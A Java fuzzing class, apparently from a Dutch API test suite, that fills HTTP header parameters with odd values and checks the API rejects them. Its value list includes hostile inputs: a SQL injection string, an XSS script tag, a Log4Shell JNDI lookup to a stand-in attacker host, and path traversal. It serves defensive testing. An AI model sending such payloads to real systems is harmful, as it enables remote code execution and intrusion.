package nl.sekswerkregister.fuzz.mutaties;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import nl.sekswerkregister.fuzz.Parameter;
import nl.sekswerkregister.fuzz.Trekker;
import nl.sekswerkregister.fuzz.Verzoek;
import nl.sekswerkregister.support.Personen;

/**
 * An odd value for a header parameter of the contract (Idempotency-Key, X-Doelbinding,
 * X-Verwerkingsactiviteit, If-Match, traceparent, and whatever the contract adds): absent, empty,
 * just outside its length or pattern, hostile text, a BSN in free text, sent twice, or a key reused
 * for another request.
 */
public final class VreemdeKopwaarde implements ParameterMutatie {

    static final List<String> ALGEMEEN = List.of("", " ", "*", "onzin", "\"0\"", "W/\"1\"", "\"1\", \"2\"",
            "' or 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://aanvaller.example/a}", "s\u00FCleutel met spaties",
            "\uD83D\uDCA5", "a\tb", "../../x zqxj", "x".repeat(9_000), "fuzz-vaste-sleutel", "00-xyz",
            "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "00-00000000000000000000000000000000-0000000000000000-00", "\u202Eab");

    @Override
    public boolean past(Parameter p) {
        return p.plek().equals("header");
    }

    @Override
    public void pasToe(Verzoek v, Parameter p, Trekker t) {
        JsonNode s = p.schema();
        List<String> waarden = new ArrayList<>(ALGEMEEN);
        if (s.has("minLength") && s.get("minLength").asInt() > 1) {
            waarden.add("x".repeat(s.get("minLength").asInt() - 1));
        }
        if (s.has("maxLength")) {
            waarden.add("x".repeat(s.get("maxLength").asInt() + 1));
        }
        int keuze = t.getal(10);
        if (keuze == 0) {
            v.zet(p, null);
            v.gemuteerd(p, "weg");
            if (p.verplicht()) {
                v.moetGeweigerd("de verplichte header " + p.naam() + " ontbreekt");
            }
            return;
        }
        if (keuze == 1) {
            String waarde = v.waarde(p) == null ? "tweede" : v.waarde(p);
            v.voegKopToe(p.naam(), t.kies(List.of("tweede waarde", waarde)));
            v.gemuteerd(p, "twee keer");
            return;
        }
        if (keuze == 2) {
            // A BSN in a header: free text that is kept may hold none (400 persoonsgegeven), and no
            // error may repeat it.
            String bsn = Personen.bsn();
            v.zet(p, "Controle " + bsn);
            v.merktekens.add(bsn);
            v.gemuteerd(p, "met een BSN erin");
            if (PersoonsgegevenInTekst.gescreend(p.beschrijving())) {
                v.verwacht("het contract: een BSN in " + p.naam() + " is 400 (persoonsgegeven)", status -> status == 400);
                v.moetGeweigerd("het contract weigert een BSN in " + p.naam());
            }
            return;
        }
        String waarde = t.trek(waarden);
        // The client puts no control characters or line breaks in a header (RauweInvoerIT does).
        waarde = waarde.replaceAll("[\\x00-\\x08\\x0A-\\x1F\\x7F]", " ");
        v.zet(p, waarde);
        v.gemuteerd(p, "\"" + (waarde.length() > 40 ? waarde.substring(0, 40) + "...(" + waarde.length() + ")" : waarde) + "\"");
    }
}
